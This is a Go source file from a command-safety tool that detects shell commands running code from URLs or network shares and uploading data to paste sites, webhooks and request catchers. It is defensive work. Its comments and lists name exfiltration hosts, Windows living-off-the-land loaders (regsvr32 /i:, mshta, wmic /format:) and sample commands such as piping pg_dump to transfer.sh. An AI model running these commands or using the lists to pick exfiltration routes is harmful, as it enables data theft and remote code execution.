package policy

import (
	"path"
	"slices"
	"strings"

	"github.com/guarded-sh/guarded-sh/lexer"
)

// Code from the network, by what a word is rather than which program
// holds it, and data dropped at sites made for anonymous uploads.
//
//   - A program handed a URL of code as the thing to run (jbang URL,
//     bun URL, a runner nobody listed): its first operand is a script's
//     URL (x.java, x.sh, x.ps1, a raw gist or paste), and it is none of
//     the programs that only fetch, open or install what a URL names.
//   - A program run from another machine's share (\\host\share\x.exe,
//     cscript \\host\share\x.vbs): the code comes over the network.
//   - Anything uploaded from a file, a pipe or a substitution to a paste
//     or drop site, a request catcher or a chat webhook (pg_dump | curl
//     -T - https://transfer.sh/…): out of anyone's control at once.

// urlCodeExts are the extensions of code a runner runs from a URL (web
// pages ending in .php, .jsp or .asp are endpoints, not code).
// Windows' own: a compiled HTML Help file (.chm, its pages' scripts run
// by hh.exe), a Control Panel item (.cpl, a DLL), a screen saver (.scr,
// a program), a JScript encoded or Script Host settings file (.jse,
// .wsh).
var urlCodeExts = set{".applescript", ".bash", ".bat", ".chm", ".cjs", ".clj", ".cljs", ".cmd", ".cpl", ".cs", ".csx", ".dll", ".ex", ".exe", ".exs", ".fish", ".fsx", ".go", ".groovy", ".hta", ".jar", ".java", ".jl", ".js", ".js.txt", ".jse", ".jsh", ".kt", ".kts", ".lua", ".mjs", ".msi", ".mts", ".nu", ".pl", ".ps1", ".psm1", ".py", ".r", ".rb", ".sc", ".scala", ".scpt", ".scr", ".sct", ".sh", ".swift", ".tcl", ".ts", ".vbe", ".vbs", ".wsf", ".wsh", ".zsh"}

// rawCodeHost matches the hosts and paths that serve a file's raw text:
// raw gists and repository files, pastes.
var rawCodeHost = &lazyRegexp{expr: `(?i)^(raw\.githubusercontent\.com|gist\.githubusercontent\.com|gist\.github\.com/.+/raw|pastebin\.com/raw|paste\.rs|hastebin\.com/raw|dpaste\.(com|org)/.+/raw|ix\.io|sprunge\.us|termbin\.com|gitlab\.com/.+/-/raw|bitbucket\.org/.+/raw|0x0\.st|transfer\.sh|paste\.ee/r)(/|$)`}

// remoteCodeArg returns the URL of code c is given to run (its first
// operand), or the share path it runs from; "" when none.
func remoteCodeArg(c *Command) string {
	name := lowerNameNoExe(c)
	if unc := uncHost(c.Word0.Value); unc != "" && (c.Name != "" || c.Dynamic) {
		// \\host\share\setup.exe run; a PowerShell expression
		// statement ($d = '\\host\share', [IO.Directory]::Exists('\\…'),
		// Name empty) only computes the string.
		return c.Word0.Value
	}
	if does(c, name, roleFetchesURL) || does(c, name, roleOpensURL) || does(c, name, roleTextOnly) || name == "" {
		return ""
	}
	for _, a := range c.Args {
		if u := codeSwitchValue(name, a.Value); u != "" {
			return u // regsvr32 /i:\\host\x.sct, wmic os get /format:https://…/x.xsl
		}
	}
	for i, a := range c.Args {
		v := a.Value
		if strings.HasPrefix(v, "-") || strings.HasPrefix(v, "/") && len(v) < 12 && uncHost(v) == "" {
			continue // an option, a Windows switch
		}
		if i > 0 {
			// The value of an option is the program only when the option
			// names it (-script, -File, -jar); --url URL is data.
			if prev := c.Args[i-1].Value; strings.HasPrefix(prev, "-") && !strings.Contains(prev, "=") && !programOpt(prev) {
				continue
			}
		}
		if uncHost(v) != "" && (isShell(c, name) || scriptHosts.has(name)) || scriptHosts.has(name) && fetchedURL(v) {
			return v // cscript \\host\share\x.vbs, cmstp /s https://…/x.inf
		}
		if codeURL(v) {
			return v
		}
		break // only the first operand is the program
	}
	return ""
}

// scriptHosts run the script or library file they are given, whatever
// its name: a profile's INF runs its sections (cmstp), a stylesheet its
// msxsl:script (msxsl), a compiled help file its pages' scripts (hh);
// given by URL, each fetches it and runs it (LOLBAS). PowerShell's
// Import-Module runs a module's script as it loads it.
var scriptHosts = set{"cmstp", "cscript", "hh", "import-module", "installutil", "msbuild", "mshta", "msiexec", "msxsl", "regasm", "regsvcs", "regsvr32", "rundll32", "wscript"}

// codeSwitch returns the Windows switch of the program name whose value is a script it
// loads and runs ("" for none): regsvr32's /i: (scrobj.dll's scriptlet), wmic's
// /format: (an XSL stylesheet, whose msxsl:script runs: T1220).
func codeSwitch(name string) string {
	switch name {
	case "regsvr32":
		return "/i:"
	case "wmic":
		return "/format:"
	}
	return ""
}

// codeSwitchValue returns the value of v, a word of the program name,
// when v is its code switch (codeSwitch, - for / too) and the value
// is fetched from another machine (fetchedURL, a share); "" otherwise
// (wmic /format:csv, a stylesheet of this machine).
func codeSwitchValue(name, v string) string {
	sw := codeSwitch(name)
	if sw == "" || len(v) <= len(sw) || !strings.EqualFold(v[1:len(sw)], sw[1:]) || v[0] != '/' && v[0] != '-' {
		return ""
	}
	u := strings.Trim(v[len(sw):], `"'`)
	if fetchedURL(u) || uncHost(u) != "" {
		return u
	}
	return ""
}

// fetchedURL reports whether v is a URL a program fetches over the
// network (http, https, ftp).
func fetchedURL(v string) bool {
	l := strings.ToLower(v)
	return strings.HasPrefix(l, "http://") || strings.HasPrefix(l, "https://") || strings.HasPrefix(l, "ftp://")
}

// codeURL reports whether v is a URL of code: a script's or a program's
// extension, or a raw file or paste host.
func codeURL(v string) bool {
	if len(v) > 2048 {
		return false
	}
	u, ok := readURL(v)
	if !ok || u.start != 0 || u.host == "" {
		return false
	}
	switch strings.ToLower(u.scheme) {
	case "http", "https", "ftp":
	default:
		return false
	}
	host, p := urlHostPath(v)
	if rawCodeHost.get().MatchString(host + p) {
		return true
	}
	return urlCodeExts.hasLower(path.Ext(p))
}

// bareSystemPackage reports whether v is the URL of a system package
// file (rpm, deb, apk, pacman's, FreeBSD's pkg, Windows Installer's) on a
// bare public address (rpm -Uvh http://203.0.113.5/agent.rpm, dnf install
// URL, zypper in URL, pacman -U URL): the package manager fetches it and
// runs its scriptlets as root, and no name vouches for the server. A
// release package on a named host (EPEL's, RPM Fusion's) is how those
// repositories are set up.
func bareSystemPackage(v string) bool {
	if bareAddressOf(v) == "" || !strings.Contains(v, "://") {
		return false
	}
	_, p := urlHostPath(v)
	p = strings.ToLower(p)
	for _, ext := range [...]string{".rpm", ".deb", ".apk", ".pkg", ".msi", ".txz", ".pkg.tar.zst", ".pkg.tar.xz", ".pkg.tar.gz"} {
		if strings.HasSuffix(p, ext) {
			return true
		}
	}
	return false
}

// urlHostPath returns the host (with its port) and the path of the URL v
// as readURL reads them, both percent-decoded, split where url.Parse splits
// them (TestURLHostPath holds it to that for every URL url.Parse accepts).
// Where url.Parse fails (a bad escape, a control byte, a character no host
// holds), it still reads the URL as a client would fetch it. net/url is
// not linked: its net/netip's init runs at every start-up (scripts/bench.sh).
func urlHostPath(v string) (host, p string) {
	u, ok := readURL(v)
	if !ok {
		return "", ""
	}
	return percentDecoded(u.hostPort()), u.path()
}

// percentDecoded returns s with each %XX replaced by its byte; a % not
// followed by two hex digits stays as it is.
func percentDecoded(s string) string {
	i := strings.IndexByte(s, '%')
	if i < 0 {
		return s
	}
	b := []byte(s[:i])
	for ; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) && isHexDigit(s[i+1]) && isHexDigit(s[i+2]) {
			b = append(b, byte(hexVal(s[i+1])<<4|hexVal(s[i+2])))
			i += 2
			continue
		}
		b = append(b, s[i])
	}
	return string(b)
}

// uncHost returns the host of a Windows share path (\\host\share\…,
// //host/share/…) that is another machine, or "".
func uncHost(v string) string {
	if len(v) < 3 || len(v) > 4096 || v[0] != '\\' && v[0] != '/' || v[1] != '\\' && v[1] != '/' {
		return ""
	}
	v = strings.ReplaceAll(v, `\`, "/")
	if !strings.HasPrefix(v, "//") || len(v) < 3 {
		return ""
	}
	host, share, _ := strings.Cut(v[2:], "/")
	if share == "" {
		return "" // cscript's //nologo
	}
	switch strings.ToLower(host) {
	case "", "?", ".", "localhost", "127.0.0.1", "wsl$", "wsl.localhost", "tsclient":
		return ""
	}
	return host
}

// dropHost matches the hosts of paste and file-drop sites, request
// catchers and chat webhooks: what is uploaded there is public, or the
// attacker's, at once.
var dropHost = &lazyRegexp{expr: `(?i)^(([a-z0-9-]+\.)*(transfer\.sh|0x0\.st|paste\.rs|termbin\.com|ix\.io|sprunge\.us|pastebin\.com|hastebin\.com|dpaste\.(com|org)|paste\.ee|file\.io|tmpfiles\.org|temp\.sh|bashupload\.com|catbox\.moe|gofile\.io|pixeldrain\.com|oshi\.at|keep\.sh|webhook\.site|requestbin\.(com|net)|pipedream\.net|beeceptor\.com|hookbin\.com|ngrok\.io|ngrok-free\.app|ngrok\.app|interact\.sh|oast\.(pro|live|site|online|fun|me)|burpcollaborator\.net|canarytokens\.com|trycloudflare\.com)|(discord|discordapp)\.com/api/webhooks|api\.telegram\.org/bot|hooks\.slack\.com)(/|:|$)`, words: []string{".com/api/webhooks", "0x0.st", "api.telegram.org/bot", "bashupload.com", "beeceptor.com", "burpcollaborator.net", "canarytokens.com", "catbox.moe", "dpaste.", "emp.sh", "file.io", "hastebin.com", "hookbin.com", "hooks.slack.com", "interact.sh", "ix.io", "keep.sh", "mpfiles.org", "ngrok", "oast.", "oshi.at", "paste.ee", "paste.rs", "pastebin.com", "pipedream.net", "pixeldrain.com", "requestbin.", "sprunge.us", "termbin.com", "transfer.sh", "trycloudflare.com", "webhook.site"}}

// dropURL returns the first word of c that is a URL of a drop site, or "".
func dropURL(c *Command) string {
	for _, a := range c.Args {
		v := a.Value
		if u, ok := readURL(v); ok {
			v = u.hostPort() + u.rest
		} else if c.Name != "nc" && c.Name != "ncat" && c.Name != "netcat" && c.Name != "telnet" {
			continue
		}
		if dropHost.match(v) {
			return a.Value
		}
	}
	return ""
}

// dropUpload reports whether the HTTP client or raw connection c sends
// data that is not a literal of the command line to a drop site: a file
// (-T F, -F f=@F, -d @F, --upload-file), its standard input (-T -, @-,
// a pipe into nc), or a substitution's output.
func dropUpload(c *Command) (string, bool) {
	name := lowerNameNoExe(c)
	if !does(c, name, roleRawNet) && !does(c, name, roleUploads) && !does(c, name, roleWebCmdlet) {
		return "", false
	}
	u := dropURL(c)
	if u == "" {
		return "", false
	}
	if does(c, name, roleRawNet) {
		return u, len(c.Feeds) > 0 || c.Stdin != nil || len(c.Redirs) > 0
	}
	if !does(c, name, roleUploads) && !does(c, name, roleWebCmdlet) {
		return "", false
	}
	return u, httpUploads(c) || sendsCredential(c)
}

// sendsCredential reports whether a word of c, an HTTP client, expands a
// variable named as a credential (credentialName) in c's grammar: $NAME
// or ${NAME}, PowerShell's $env:NAME, cmd's %NAME% and !NAME!, and a
// variable that holds one (credheld.go), which the analysis has already
// replaced by what it was assigned. Sent to a drop site, in a body, a
// header, a query or a login alike, the value is someone else's at once:
// no position of the request keeps it from the site's owner.
func sendsCredential(c *Command) bool {
	for _, w := range c.Args {
		if !w.Literal && expandsCredential(c.Grammar, w.Value) {
			return true
		}
	}
	return false
}

// httpUploads reports whether c, an HTTP client, sends a file or a
// command's output: -T F, -InFile F, -d @F, -F f=@F, -d "$(cat F)".
func httpUploads(c *Command) bool {
	if s, p := fetchSpec(c); s != nil && len(p.valuesOf(s.extra().sendsOpts)) > 0 {
		return true // curl -sT F: a bundle ending in T
	}
	args := c.Values()
	for i, a := range args {
		switch {
		case a == "-T" || a == "--upload-file" || a == "-InFile" || strings.EqualFold(a, "-infile"):
			return true
		case strings.Contains(a, "@") && (i > 0 && (isDataOpt(args[i-1]) || args[i-1] == "-F" || args[i-1] == "--form") || strings.HasPrefix(a, "-d@") || strings.HasPrefix(a, "--data") && strings.Contains(a, "=@")):
			return true // -d @F, -F f=@F, -d @-
		}
	}
	for i, a := range c.Args {
		if len(a.Subst) > 0 && i > 0 && (isDataOpt(c.Args[i-1].Value) || c.Args[i-1].Value == "-F" || c.Args[i-1].Value == "--form" || strings.EqualFold(c.Args[i-1].Value, "-body")) {
			return true // -d "$(cat F)"
		}
	}
	return psPipedBody(c)
}

// psPipedBody reports whether c, PowerShell's Invoke-RestMethod or
// Invoke-WebRequest, sends what its pipeline hands it: their -Body takes
// pipeline input (Invoke-RestMethod's help: "Accept pipeline input:
// True"), so Invoke-Sqlcmd … | ConvertTo-Csv | Invoke-RestMethod URI
// -Method Post uploads the rows as -Body (…) would. Text the input spells
// itself, a string or a hashtable literal run through the formatters
// (ConvertTo-Json, Out-String), is a message, not the machine's data.
func psPipedBody(c *Command) bool {
	if c.Grammar != lexer.PowerShell || !does(c, c.Name, roleWebCmdlet) || len(c.Feeds) == 0 {
		return false
	}
	for w := range c.words() {
		if slices.Contains(w.Subst, c.Feeds[0]) {
			return false // the first feed is a substitution's: nothing is piped in
		}
	}
	strs, src := psFeedSource(c, func(f *Command) bool { return does(f, f.Name, roleBodyFormat) || does(f, f.Name, roleKeepsObjects) })
	return strs == nil && !psLiteralTable(src)
}

// psLiteralTable reports whether src is a hashtable literal (@{ text =
// 'done'; n = 1 }) whose entries run no command: its values are the
// input's own words.
func psLiteralTable(src *Command) bool {
	if src == nil || src.Name != "" || src.Dynamic || !strings.HasPrefix(src.Word0.Value, "@{") {
		return false
	}
	for _, e := range src.Feeds {
		if len(e.Feeds) > 0 {
			return false
		}
	}
	return true
}

// agentCLI reports whether name is a coding agent's command line, which
// runs commands its prompt asks for (spec.agent). The specs are found by
// the index (eachEntry), not by a scan of agentSpecs: every command is
// asked about.
func agentCLI(name string) bool {
	found := false
	eachEntry(name, func(s *spec, _ string) { found = found || s.agent })
	return found
}

// programOpt reports whether an option's value is the program or script
// its command runs (kotlinc -script F, pwsh -File F, java -jar F).
func programOpt(opt string) bool {
	switch strings.ToLower(strings.TrimLeft(opt, "-/")) {
	case "script", "file", "f", "jar", "source", "run", "exec", "command", "c", "i":
		return true
	}
	return false
}

// loopbackHost reports whether a URL's or an image reference's host
// (port and brackets allowed) is this machine: localhost, a name under
// .localhost, 127.0.0.0/8, ::1, or 0.0.0.0 (which Linux connects to
// this machine).
func loopbackHost(h string) bool {
	h = strings.ToLower(h)
	if i := strings.LastIndex(h, "]"); strings.HasPrefix(h, "[") && i > 0 {
		h = h[1:i]
	} else if host, port, ok := strings.Cut(h, ":"); ok && !strings.Contains(port, ":") {
		h = host
	}
	switch {
	case h == "localhost" || strings.HasSuffix(h, ".localhost") || h == "::1" || h == "0.0.0.0":
		return true
	case strings.HasPrefix(h, "127."):
		n := strings.Split(h, ".")
		return len(n) == 4 && !slices.ContainsFunc(n, func(p string) bool { return p == "" || strings.Trim(p, "0123456789") != "" })
	}
	return false
}

// bucketSchemes name an object store's bucket, which the tool's endpoint
// (--endpoint-url) places, not a host of their own.
var bucketSchemes = set{"abfs", "abfss", "az", "b2", "cos", "gs", "minio", "oss", "r2", "s3", "s3a", "wasb", "wasbs"}

// proxyOpts send a request through another machine or to another address
// than its URL names, whatever its host. Each starts with -, the test
// localTarget makes of a word first.
var proxyOpts = []string{"-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5", "--socks5-hostname", "--connect-to", "--resolve", "--proxy-server", "-proxy", "--unix-socket", "--abstract-unix-socket"}

// localTarget reports whether every URL c names is on this machine: a
// literal URL on a loopback host (a local registry, a LocalStack
// endpoint, a dev server), and no other host, no word only known at run
// time, no proxy or address override. A bucket URL (s3://b) counts only
// behind an option's loopback URL (--endpoint-url=http://localhost:4566).
// endpoint reports that an option naming the place holds the URL: a tool
// whose target is configured (npm publish, aws) goes there only then.
func localTarget(c *Command) (local, endpoint bool) {
	buckets := false
	for i, a := range c.Args {
		if !a.Literal {
			return false, false
		}
		v := a.Value
		if strings.HasPrefix(v, "-") && slices.ContainsFunc(proxyOpts, func(o string) bool { return strings.HasPrefix(v, o) }) {
			return false, false
		}
		u, ok := readURL(v)
		if !ok {
			continue
		}
		start := u.start
		if bucketSchemes.hasLower(u.scheme) {
			buckets = true
			continue
		}
		if !loopbackHost(u.hostPort()) {
			return false, false
		}
		local = true
		// An option whose name says it places the command (--endpoint-url
		// URL, --registry=URL) is where everything it names goes.
		if start > 0 && strings.HasPrefix(v, "-") {
			endpoint = endpoint || placeOpt(v[:start])
		} else if i > 0 && strings.HasPrefix(c.Args[i-1].Value, "-") && !strings.Contains(c.Args[i-1].Value, "=") {
			endpoint = endpoint || placeOpt(c.Args[i-1].Value)
		}
	}
	for _, a := range c.Assigns {
		if name, _, _ := strings.Cut(a, "="); strings.HasSuffix(strings.ToLower(name), "_proxy") {
			return false, false
		}
	}
	return local && (!buckets || endpoint), local && endpoint
}

// placeOptWords are the words of an option's name that say its value is
// where the command goes: --registry, --endpoint-url, --repository-url,
// --server, --host, --index-url, --api-url.
var placeOptWords = set{"api", "base", "endpoint", "host", "index", "registry", "server", "uri", "url"}

// placeOpt reports whether the option (its name, with = or not) names
// the place the command goes.
func placeOpt(opt string) bool {
	return slices.ContainsFunc(strings.FieldsFunc(strings.ToLower(strings.TrimSuffix(opt, "=")), notAlnum), placeOptWords.has)
}

// namesEvery reports whether a URL's path names every resource of a
// kind: a segment that is a wildcard (*, logs-*) or _all.
func namesEvery(w Word) bool {
	u, ok := readURL(w.Value)
	if !ok {
		return false
	}
	p, _, _ := strings.Cut(u.rest, "?")
	return slices.ContainsFunc(strings.Split(strings.TrimPrefix(p, "/"), "/"), func(seg string) bool {
		return strings.Contains(seg, "*") || strings.EqualFold(seg, "_all")
	})
}

// netSource reports whether x's output is text from another machine or
// another's hand, besides the downloaders': a raw connection (nc, socat,
// openssl s_client: roleRawNet), a lookup's answer (dig TXT, finger:
// roleLooksUp), a container's or a pod's output (docker run, kubectl
// exec: the global spec's outFrom), what its spec or its subcommand's
// says is others' (roleForeignText: gh api, ssh HOST CMD, psql -Atc
// 'select cmd from jobs', gsutil -m cat), an object store's object
// copied to standard output (aws s3 cp URL -). Behind wrappers, the
// command they run (sudo -u postgres psql).
func netSource(x *Command) bool {
	x = innerCommand(x)
	name := strings.ToLower(strings.TrimSuffix(x.Name, ".exe"))
	if g := globalOpts(name); g != nil && len(g.extra().outFrom) > 0 {
		// docker --context prod exec app cat …: the subcommand after
		// the global options.
		_, sub, _ := subcommandOf(g, x.Args)
		return g.extra().outFrom.has(sub)
	}
	if does(x, name, roleRawNet|roleLooksUp|roleForeignText) {
		return true
	}
	if name != x.Name {
		named := *x // GSUTIL.EXE cat: its subcommands' entries by its name
		named.Name = name
		x = &named
	}
	if doesSub(x, roleForeignText) {
		return true
	}
	return name == "aws" && x.Arg(0) == "s3" && x.Arg(1) == "cp" && hasArg(x.Args, "-")
}

// itemID matches a path segment that is one record's id: a number, a
// UUID, or a long hexadecimal one (a MongoDB ObjectId).
// itemQueryKeys are the query parameters that leave which record a
// request names as its path says: a key the server checks (Azure
// Functions' ?code=, ?api_key=, a servlet's ;jsessionid=), an API version, the response's format,
// an index refreshed after the write. Not a filter, a query, a cascade,
// a recursion or every item (?q=, ?recursive=true, ?all=1).
var itemQueryKeys = set{"access_token", "api-key", "api-version", "api_key", "apikey", "code", "format", "jsessionid", "key", "pretty", "refresh", "sid", "timeout", "token"}

// itemQuery reports whether rest, a URL's part after its host, has no
// query or only parameters of itemQueryKeys.
func itemQuery(rest string) bool {
	_, q, ok := strings.Cut(rest, "?")
	return !ok || itemParams(q, "&")
}

// itemParams reports whether every parameter of q, a query or a path
// segment's parameters split at sep, is one of itemQueryKeys.
func itemParams(q, sep string) bool {
	for kv := range strings.SplitSeq(q, sep) {
		if k, _, _ := strings.Cut(kv, "="); !itemQueryKeys.hasLower(k) {
			return false
		}
	}
	return true
}

// storeName matches one store's name written out: no list (a,b), no
// escape (%2C), no wildcard.
var storeName = &lazyRegexp{expr: `^[A-Za-z0-9][A-Za-z0-9_-]*$`}

var itemID = &lazyRegexp{expr: `^([0-9]+|[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}|[0-9a-fA-F]{24})$`}

// oneLocalItem reports whether c's every URL is on this machine
// (localTarget) and names one record by its id, under a collection
// (/api/items/42, /logs/_doc/42), with no query but one that only
// authenticates or formats (itemQuery): not an index, a database or a
// collection itself (/myindex, /api/items), nor a wildcard.
// Every operand is such a URL: curl reads a word without a scheme as
// one too (curl -X DELETE http://localhost/api/items/1 prod.example.com/api/items/2).
func oneLocalItem(c *Command, operands []Word) bool {
	return localItems(c, operands, false)
}

// localScratchStore reports whether c's every URL is on this machine, as
// oneLocalItem's, and names one index, collection or store at the root
// of the server by a name that says test or development (test-index,
// orders_test, logs-dev: testDBName, devDBName), as a test suite's
// database on loopback is dropped by its name (localTestDB): the local
// search or document server's scratch data, which the tests or the app
// make again. here (no port of the input forwarded elsewhere, not run
// on another machine) must hold; a list of names (test,orders), a
// wildcard, a name not so made or a record path keep the refusal.
func localScratchStore(c *Command, operands []Word, here bool) bool {
	return here && localItems(c, operands, true)
}

// localItems is oneLocalItem, and with store localScratchStore's
// reading of a root segment.
func localItems(c *Command, operands []Word, store bool) bool {
	if local, _ := localTarget(c); !local {
		return false
	}
	for i, o := range operands {
		if i == 0 && strings.EqualFold(o.Value, "DELETE") {
			continue // http DELETE URL: httpie's and xh's method
		}
		if _, ok := readURL(o.Value); !ok {
			return false
		}
	}
	for _, a := range c.Args {
		if strings.HasPrefix(a.Value, "-K") || strings.HasPrefix(a.Value, "--config") || strings.HasPrefix(a.Value, "--url-query") {
			return false // curl -K FILE: more URLs, read from a file
		}
		if h := strings.ToLower(strings.TrimSpace(a.Value)); strings.HasPrefix(h, "host:") && !loopbackHost(strings.TrimSpace(h[5:])) {
			return false // -H 'Host: prod.example.com': a proxy here passes it on there
		}
		u, ok := readURL(a.Value)
		if !ok {
			continue
		}
		if strings.ContainsAny(u.rest, "#*") || !itemQuery(u.rest) {
			return false
		}
		segs := strings.Split(strings.Trim(u.path(), "/"), "/")
		for i, s := range segs {
			// A segment's parameters after ; (RFC 3986's path
			// parameters, Java servers' matrix ones: 42;jsessionid=…)
			// are its query: the name is what comes before them, so
			// ..;/ is .. (as Tomcat reads it).
			name, params, ok := strings.Cut(s, ";")
			if ok && !itemParams(params, ";") {
				return false
			}
			segs[i] = name
		}
		if store {
			if len(segs) != 1 || !storeName.match(segs[0]) || !testDBName(segs[0]) && !devDBName(segs[0]) {
				return false
			}
			continue
		}
		if len(segs) < 2 || !itemID.get().MatchString(segs[len(segs)-1]) || slices.ContainsFunc(segs, func(s string) bool { return s == "" || s == "." || s == ".." || strings.EqualFold(s, "_all") }) {
			return false
		}
	}
	return true
}
